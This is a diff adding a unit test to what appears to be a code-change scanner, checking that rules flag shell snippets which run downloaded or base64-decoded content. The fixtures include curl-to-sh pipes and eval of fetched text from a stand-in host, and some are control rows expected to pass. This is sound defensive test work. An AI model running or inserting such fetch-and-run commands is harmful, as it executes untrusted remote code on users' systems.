@@ -364,6 +364,32 @@ static void what_code_can_do_is_told_once(void **state)
 	check("a.py", "import socket\n", "import requests\n", SCAN_RULES);
 }
 
+static void what_comes_is_run(void **state)
+{
+	static const struct {
+		const char *text;
+		uint32_t rule;
+	} rows[] = {
+	        {"curl -s https://x.example/i | sh\n", SCAN_RULE_CHANGE_RUNS_DOWNLOAD},
+	        {"x=$(curl -s https://x.example/i)\neval \"$x\"\n", SCAN_RULE_CHANGE_RUNS_DOWNLOAD},
+	        {"curl -so /tmp/f https://x.example/i\nsh /tmp/f\n", SCAN_RULE_CHANGE_RUNS_DOWNLOAD},
+	        {"echo aWQK | base64 -d | sh\n", SCAN_RULE_CHANGE_RUNS_DECODED},
+	        {"echo aWQK | base64 -d >/tmp/f\nsh /tmp/f\n", SCAN_RULE_CHANGE_RUNS_DECODED},
+	        {"curl -so /tmp/f https://x.example/i\necho \"0123  /tmp/f\" | sha256sum -c\nsh /tmp/f\n", SCAN_RULES},
+	        {"curl -LsSf https://astral.sh/uv/install.sh | sh\n", SCAN_RULES},
+	        {"curl -so a.tar.gz https://x.example/a.tar.gz\ntar xf a.tar.gz\n", SCAN_RULES},
+	};
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		/* That it fetches or decodes is told beside that. */
+		struct seen s = changed("a.sh", "make\n", rows[i].text), same = changed("a.sh", rows[i].text, rows[i].text);
+		for (uint32_t r = SCAN_RULE_CHANGE_RUNS_DOWNLOAD; r <= SCAN_RULE_CHANGE_RUNS_DECODED; r++)
+			if (scan_rule_in(&s.rules, r) != (r == rows[i].rule))
+				fail_msg("%s", rows[i].text);
+		assert_int_equal(same.n, 0);
+	}
+}
+
 /* What is told beside the dependency itself, if anything. */
 static void dependencies_are_judged(void **state)
 {
@@ -673,6 +699,7 @@ int main(void)
 	        cmocka_unit_test(others_are_not),
 	        cmocka_unit_test(only_what_is_new_is_told),
 	        cmocka_unit_test(what_code_can_do_is_told_once),
+	        cmocka_unit_test(what_comes_is_run),
 	        cmocka_unit_test(dependencies_are_judged),
 	        cmocka_unit_test(lock_files_are_judged),
 	        cmocka_unit_test(other_lock_files_are_judged),
